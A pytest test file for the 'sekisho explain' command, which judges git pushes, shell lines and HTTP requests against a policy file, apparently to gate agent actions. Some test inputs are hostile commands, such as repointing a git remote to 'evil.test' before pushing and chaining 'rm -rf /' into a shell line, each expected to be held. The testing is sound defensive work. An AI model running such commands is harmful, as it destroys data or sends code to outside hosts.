"""`sekisho explain`: pushes by the rules of the policy, command lines by their parts, rows by their form."""

import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.git import run_git
from tests.support.needs import needs
from tests.unit.cli.calling import Calling

pytestmark = needs("git")

POLICY = """version = 1
[git]
push = [{ ref = "agent/*", gate = "auto" }, { ref = "secret/*", gate = "never" }]

[[command]]
match = ["git", "push", "origin", "agent/asked"]
gate = "human"

[[network.rule]]
host = "closed.test"
effect = "forbidden"

[[network.rule]]
host = "open.test"
method = "POST"
effect = "read"
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    run_git("init", "-q", "-b", "main", cwd=folder)
    run_git("commit", "-q", "--allow-empty", "-m", "one", cwd=folder)
    for branch in ("agent/x", "agent/asked", "secret/x"):
        run_git("branch", branch, cwd=folder)
    for name, url in (("origin", "https://git.test/x.git"), ("closed", "https://closed.test/x.git")):
        run_git("remote", "add", name, url, cwd=folder)
    (folder / "sekisho.toml").write_text(POLICY)
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def trusted(project: Path, call: Calling) -> Path:
    assert call("policy", "trust", "--yes").status == 0
    return project


def explained(call: Calling, *args: str) -> dict[str, Any]:
    ended = call("explain", "--json", *args)
    assert ended.status == 0, ended.err
    answer: dict[str, Any] = ended.json()
    return answer


@pytest.mark.parametrize(
    ("words", "verdict", "code"),
    [
        ("origin agent/x", "allow", "push-by-rule"),
        ("origin HEAD:refs/heads/agent/x", "allow", "push-by-rule"),
        ("origin agent/new", "allow", "push-by-rule"),
        ("origin main agent/x", "hold", "held-push"),
        ("origin secret/x", "deny", "forbidden-by-rule"),
        ("--force origin agent/x", "hold", "force-push"),
        ("--force origin main", "deny", "protected-ref"),
        ("origin :main", "deny", "protected-ref"),
        ("origin :agent/x", "hold", "ref-deletion"),
        ("https://elsewhere.test/x.git agent/x", "hold", "held-push"),
        ("origin agent/asked", "hold", "command-rule"),
        ("closed agent/x", "deny", "forbidden-by-rule"),
        ("--mirror", "hold", "held-push"),
    ],
)
def test_a_push_is_judged_ref_by_ref(
    call: Calling, trusted: Path, words: str, verdict: str, code: str
) -> None:
    answer = explained(call, "--", "git", "push", *words.split())
    assert (answer["verdict"], answer["code"]) == (verdict, code)


def test_what_a_push_that_would_go_through_rests_on_is_told(call: Calling, trusted: Path) -> None:
    assert "the remote was not asked" in call("explain", "--", "git", "push", "origin", "agent/x").out
    assert "notes" not in explained(call, "--", "git", "push", "origin", "main")


def test_why_the_refs_of_a_push_cannot_be_told_is_told(call: Calling, trusted: Path) -> None:
    assert "--mirror" in explained(call, "--", "git", "push", "--mirror")["notes"][0]
    line = "git remote set-url origin https://evil.test/x; git push origin agent/x"
    answer = explained(call, "--shell", line)
    assert answer["verdict"] == "hold"
    assert "another part of the same line" in answer["notes"][0]


def test_a_push_outside_of_any_repository_is_held(
    call: Calling, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    answer = explained(call, "--", "git", "push", "https://git.test/x.git", "main")
    assert answer["verdict"] == "hold"
    assert "knows no repository" in answer["notes"][0]


def test_a_policy_that_is_not_trusted_does_not_count_and_that_is_told(call: Calling, project: Path) -> None:
    asked = ("explain", "--http", "POST", "https://open.test/v1")
    before = call(*asked)
    assert before.out.startswith("hold")
    assert "sekisho.toml is not trusted as it stands" in before.err
    assert call("policy", "trust", "--yes").status == 0
    after = call(*asked)
    assert after.out.startswith("allow")
    assert after.err == ""
    (project / "sekisho.toml").write_text(POLICY + "# changed\n")
    assert call(*asked).out.startswith("hold")


def test_a_named_policy_counts_and_the_projects_is_not_asked_about(
    call: Calling, project: Path, tmp_path: Path
) -> None:
    named = call("explain", "--policy", project / "sekisho.toml", "--http", "POST", "https://open.test/v1")
    assert (named.out.split()[0], named.err) == ("allow", "")


def test_every_part_of_a_line_is_judged_and_shown(call: Calling, trusted: Path) -> None:
    line = "git status; rm -rf /; (ssh x)"
    answer = explained(call, "--shell", line)
    assert (answer["verdict"], answer["effect"]) == ("hold", "external")
    assert [part["verdict"] for part in answer["parts"]] == ["allow", "hold", "hold"]
    shown = call("explain", "--shell", line).out
    for part in ("file.delete /", "ssh x", "allow: git"):
        assert part in shown


def test_a_rule_about_a_part_that_is_not_the_worst_counts(call: Calling, trusted: Path) -> None:
    (trusted / "sekisho.toml").write_text('version = 1\n[[command]]\nmatch = ["make", "x"]\ngate = "never"\n')
    assert call("policy", "trust", "--yes").status == 0
    assert explained(call, "--shell", "make x; ssh there")["verdict"] == "deny"


@pytest.mark.parametrize("row", ['{"http": ["GET", "https://x.test/"]}', "{}", '"text"', "[", "{"])
def test_a_row_of_no_known_form_is_held_and_says_why(
    call: Calling, monkeypatch: pytest.MonkeyPatch, row: str
) -> None:
    rows = f'{row}\n{{"id": 2, "method": "GET", "url": "https://x.test/"}}\n'
    monkeypatch.setattr("sys.stdin", io.StringIO(rows))
    first, second = map(json.loads, call("explain", "--jsonl").out.splitlines())
    assert (first["verdict"], first["code"]) == ("hold", "row-unreadable")
    assert (second["id"], second["verdict"]) == (2, "allow")


def test_a_person_s_own_package_index_is_known_as_in_a_session(
    call: Calling, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "person"
    home.mkdir()
    (home / ".npmrc").write_text("registry=https://packages.test/npm/\n")
    monkeypatch.setenv("HOME", str(home))
    audit = "https://packages.test/npm/-/npm/v1/security/audits/quick"
    asked = ("explain", "--json", "--policy", str(project / "sekisho.toml"), "--http", "POST")
    assert json.loads(call(*asked, audit).out)["effect"] == "read"
    assert json.loads(call(*asked, audit.replace("packages", "other")).out)["effect"] != "read"


@pytest.mark.parametrize(
    ("method", "url", "verdict", "effect"),
    [
        ("POST", "http://localhost:8081/x", "hold", "external"),
        ("POST", "http://127.0.0.1:8081/x", "hold", "external"),
        ("POST", "http://a.localhost:8081/x", "hold", "external"),
        ("GET", "http://localhost:8081/x", "allow", "read"),
        ("POST", "http://localhost:8082/x", "allow", "local"),
        ("POST", "http://[::1]:8081/x", "allow", "local"),
    ],
)
def test_a_port_of_the_person_s_machine_is_judged_as_in_a_session(
    call: Calling, trusted: Path, method: str, url: str, verdict: str, effect: str
) -> None:
    before = explained(call, "--http", method, url)
    (trusted / "sekisho.toml").write_text(POLICY + "\n[[network.local]]\nport = 8081\n")
    assert call("policy", "trust", "--yes").status == 0
    after = explained(call, "--http", method, url)
    assert (before["verdict"], before["effect"]) == ("allow", "local")
    assert (after["verdict"], after["effect"]) == (verdict, effect)


def test_rules_about_a_port_of_the_person_s_machine_count_for_its_pushes(
    call: Calling, trusted: Path
) -> None:
    run_git("remote", "add", "here", "http://localhost:8081/r.git", cwd=trusted)
    run_git("remote", "add", "inside", "http://localhost:8082/r.git", cwd=trusted)
    rule = '\n[[network.rule]]\nhost = "localhost"\neffect = "forbidden"\n\n[[network.local]]\nport = 8081\n'
    (trusted / "sekisho.toml").write_text(POLICY + rule)
    assert call("policy", "trust", "--yes").status == 0
    assert explained(call, "--", "git", "push", "here", "agent/x")["code"] == "forbidden-by-rule"
    assert explained(call, "--", "git", "push", "inside", "agent/x")["code"] != "forbidden-by-rule"


@pytest.mark.parametrize(
    ("typed", "taken"),
    [
        ("example.com/x", "https://example.com/x"),
        ("example.com", "https://example.com"),
        ("example.com:8443/x?y=z", "https://example.com:8443/x?y=z"),
    ],
)
def test_an_address_without_a_scheme_is_taken_as_https(call: Calling, typed: str, taken: str) -> None:
    said, whole = explained(call, "--http", "GET", typed), explained(call, "--http", "GET", taken)
    assert said.pop("notes") == [f"taken as {taken}"]
    assert said == whole
    assert said["verdict"] == "allow"


@pytest.mark.parametrize("typed", ["", "/x", "//example.com/x", "mailto:a@b", "user@example.com/x"])
def test_an_address_without_a_host_is_a_usage_error(call: Calling, typed: str) -> None:
    ended = call("explain", "--http", "GET", typed)
    assert (ended.status, ended.out) == (2, "")
    assert "https://HOST/PATH" in ended.err


def test_a_tunnel_is_named_by_host_and_port(call: Calling) -> None:
    assert explained(call, "--http", "CONNECT", "example.com:443")["code"] == "tunnel"


def test_parts_of_a_request_belong_to_one(call: Calling) -> None:
    ended = call("explain", "--header", "a: b", "--", "git", "status")
    assert (ended.status, "give --http" in ended.err) == (2, True)


@pytest.mark.parametrize(
    ("line", "effect"),
    [("ssh there", "external"), ("kubectl get pods", "read"), ("sudo apt install x", "local")],
)
def test_a_tool_that_a_session_lacks_is_denied_in_its_context_and_keeps_its_effect(
    call: Calling, project: Path, line: str, effect: str
) -> None:
    said = explained(call, "--policy", "sekisho.toml", "--context", "sandbox", "--shell", line)
    assert (said["verdict"], said["code"], said["effect"]) == ("deny", "absent-tool", effect)
    outside = explained(call, "--policy", "sekisho.toml", "--shell", line)
    assert (outside["code"], outside["effect"]) != ("absent-tool", effect)


def test_a_tool_that_the_policy_keeps_is_judged_by_what_it_does(call: Calling, project: Path) -> None:
    (project / "keep.toml").write_text('version = 1\n[sandbox.tools]\nkeep = ["kubectl"]\n')
    asked = ("--policy", "keep.toml", "--context", "sandbox", "--", "kubectl")
    assert explained(call, *asked, "get", "pods")["verdict"] == "allow"
    assert explained(call, *asked, "delete", "pod", "x")["code"] == "held-write"


def test_rows_without_any_policy_are_not_judged_by_this_machine_s_tools(
    call: Calling, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "sekisho.toml").rename(project / "named.toml")
    row = '{"command": "kubectl get pods"}\n'
    for more, verdict in (((), "allow"), (("--policy", "named.toml"), "deny")):
        monkeypatch.setattr("sys.stdin", io.StringIO(row))
        answer = json.loads(call("explain", "--jsonl", "--context", "sandbox", *more).out)
        assert (answer["verdict"], answer["effect"], answer["context"]) == (verdict, "read", "sandbox")


@pytest.mark.parametrize(
    ("words", "context", "verdict"),
    [
        ("curl -d x https://localhost:8443/x", "sandbox", "hold"),
        ("curl -X DELETE localhost:8443/x", "sandbox", "hold"),
        ("curl https://localhost:8443/x", "sandbox", "allow"),
        ("curl -d x https://localhost:8444/x", "sandbox", "allow"),
        ("curl -d x https://localhost:8443/x", "host", "allow"),
        ("curl -d x https://localhost:8443/v1/render", "sandbox", "allow"),
        ("curl -d x https://localhost:8443/closed", "sandbox", "deny"),
    ],
)
def test_what_a_command_sends_to_a_port_of_the_person_s_machine_is_judged_as_on_the_wire(
    call: Calling, project: Path, words: str, context: str, verdict: str
) -> None:
    rules = (
        ('method = "POST"\npath = "/v1/render"', "read"),
        ('path = "/closed"', "forbidden"),
    )
    text = "version = 1\n[[network.local]]\nport = 8443\n"
    for where, effect in rules:
        text += f'[[network.rule]]\nhost = "localhost"\n{where}\neffect = "{effect}"\n'
    (project / "ports.toml").write_text(text)
    said = explained(call, "--policy", "ports.toml", "--context", context, "--", *words.split())
    assert said["verdict"] == verdict, said


@pytest.mark.parametrize(("asked", "other"), [("host", "sandbox"), ("sandbox", "host")])
def test_the_answer_says_which_context_was_judged_and_how_to_ask_for_the_other(
    call: Calling, asked: str, other: str
) -> None:
    said = call("explain", "--context", asked, "--", "make", "x").out
    assert f"context: {asked}" in said
    assert f"--context {other}" in said
    assert "context:" not in call("explain", "--http", "GET", "https://x.test/").out


def test_a_target_that_says_it_all_is_printed_once(call: Calling) -> None:
    assert call("explain", "--", "pytest").out.splitlines()[1] == "  pytest"
    assert call("explain", "--", "./deploy.sh").out.splitlines()[1] == "  ./deploy.sh"
    assert call("explain", "--", "kubectl", "get", "x").out.splitlines()[1] == "  kubectl.get get x"


def test_what_waits_as_a_command_is_not_told_about_requests(call: Calling) -> None:
    command = explained(call, "--", "./deploy.sh")
    request = explained(call, "--http", "QUX", "https://x.test/")
    assert command["code"] == request["code"] == "unknown-effect"
    assert "session" in command["instead"]
    assert "GET" in request["instead"]
    assert "GET" not in command["instead"]


@pytest.mark.parametrize(("method", "told"), [("POST", True), ("GET", False)])
def test_a_request_that_is_judged_without_a_body_says_so(call: Calling, method: str, told: bool) -> None:
    asked = call("explain", "--http", method, "https://api.github.com/graphql").out
    assert ("--body-file" in asked) is told
